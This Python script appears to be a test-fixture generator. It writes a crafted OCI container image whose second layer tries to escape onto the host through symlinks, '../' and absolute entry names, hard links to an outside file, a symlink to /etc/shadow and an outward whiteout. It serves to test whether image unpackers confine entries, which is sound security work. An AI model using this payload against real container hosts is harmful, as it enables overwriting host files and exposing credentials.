#!/usr/bin/env python3
"""Writes a crafted image (an OCI image layout tar) whose layers aim at host paths:

    mkevil.py OUT.tar NAME:TAG OUTSIDE

Layer 1 is busybox. Layer 2 holds symlinks to OUTSIDE (absolute, and by `../` runs), files
written *through* those symlinks, a hard link to OUTSIDE/victim, a symlink to the host's
/etc/shadow and a whiteout aimed outside. A safe unpacker keeps every entry inside the layer;
a container started from the image sees only its own files.
"""
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile


def add_file(t, name, data, mode=0o644):
    i = tarfile.TarInfo(name)
    i.size = len(data)
    i.mode = mode
    t.addfile(i, io.BytesIO(data))


def add_link(t, name, target, kind):
    i = tarfile.TarInfo(name)
    i.type = kind
    i.linkname = target
    i.mode = 0o777
    t.addfile(i)


def add_dir(t, name, mode=0o755):
    i = tarfile.TarInfo(name)
    i.type = tarfile.DIRTYPE
    i.mode = mode
    t.addfile(i)


def busybox_layer():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for d in ["bin", "etc", "proc", "sys", "dev", "tmp", "root"]:
            add_dir(t, d, 0o1777 if d == "tmp" else 0o755)
        with open("/bin/busybox", "rb") as f:
            add_file(t, "bin/busybox", f.read(), 0o755)
        applets = subprocess.run(["/bin/busybox", "--list"], capture_output=True, text=True).stdout
        for a in applets.split():
            if a != "busybox":
                add_link(t, "bin/" + a, "busybox", tarfile.SYMTYPE)
        add_file(t, "etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n")
    return buf.getvalue()


def evil_layer(outside):
    ups = "../" * 16
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        add_link(t, "escape", outside, tarfile.SYMTYPE)
        add_file(t, "escape/pwned-abs", b"written through an absolute symlink\n")
        add_link(t, "rel", ups + outside.lstrip("/"), tarfile.SYMTYPE)
        add_file(t, "rel/pwned-rel", b"written through a relative symlink\n")
        add_file(t, ups + outside.lstrip("/") + "/pwned-dots", b"a name with .. parts\n")
        add_file(t, outside + "/pwned-absname", b"an absolute name\n")
        add_link(t, "hl", outside + "/victim", tarfile.LNKTYPE)
        add_link(t, "hl2", ups + outside.lstrip("/") + "/victim", tarfile.LNKTYPE)
        add_link(t, "etc/shadowlink", "/etc/shadow", tarfile.SYMTYPE)
        add_file(t, "escape/.wh.victim", b"")
        add_link(t, "dirlink", outside, tarfile.SYMTYPE)
        add_dir(t, "dirlink/sub")
    return buf.getvalue()


def main():
    out, ref, outside = sys.argv[1], sys.argv[2], sys.argv[3]
    name, tag = ref.rsplit(":", 1)
    blobs = {}

    def blob(data):
        d = hashlib.sha256(data).hexdigest()
        blobs[d] = data
        return d, len(data)

    layers = [blob(busybox_layer()), blob(evil_layer(outside))]
    config = {
        "architecture": "amd64",
        "os": "linux",
        "config": {"Cmd": ["sh"], "Env": ["PATH=/bin"]},
        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + d for d, _ in layers]},
    }
    cd, cs = blob(json.dumps(config).encode())
    manifest = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": "sha256:" + cd, "size": cs},
        "layers": [
            {"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": "sha256:" + d, "size": s}
            for d, s in layers
        ],
    }
    md, ms = blob(json.dumps(manifest).encode())
    index = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": [{
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "digest": "sha256:" + md,
            "size": ms,
            "annotations": {"io.containerd.image.name": name + ":" + tag, "org.opencontainers.image.ref.name": tag},
        }],
    }
    with tarfile.open(out, "w") as t:
        add_file(t, "oci-layout", b'{"imageLayoutVersion":"1.0.0"}')
        add_file(t, "index.json", json.dumps(index).encode())
        add_dir(t, "blobs")
        add_dir(t, "blobs/sha256")
        for d, data in blobs.items():
            add_file(t, "blobs/sha256/" + d, data)
    os.chmod(out, 0o644)


if __name__ == "__main__":
    main()
